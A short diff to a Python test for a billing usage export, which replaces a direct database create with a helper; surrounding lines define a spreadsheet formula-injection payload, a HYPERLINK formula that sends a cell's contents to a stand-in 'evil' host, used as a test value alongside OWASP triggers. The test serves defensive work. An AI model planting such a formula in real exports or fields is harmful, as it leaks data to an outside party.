@@ -22,6 +22,7 @@ from billing.models import UsageRecord
 from tenants.models import Tenant
 from tenants.services import create_project, create_tenant, issue_key
 from tests.world import World
+from tests.billing.rollup_events import create_usage
 
 FORMULA = '=HYPERLINK("https://evil/?"&C2,"x")'
 # OWASP's triggers, each as a model name a key holder could send.
@@ -31,7 +32,7 @@ MONTH = "2026-11"
 
 def _record(tenant: Tenant, rid: str, model: str, project: Any, key: Any, **extra: Any) -> None:
     moment = datetime(2026, 11, 17, 12, tzinfo=UTC)
-    UsageRecord.objects.create(
+    create_usage(
         request_id=rid, tenant=tenant, project=project, api_key=key, model=model,
         served_model=model, input_tokens=10, output_tokens=5, cost_micros=extra.pop("cost", 75),
         status=extra.pop("status", "settled"), started_at=moment, ended_at=moment, **extra)
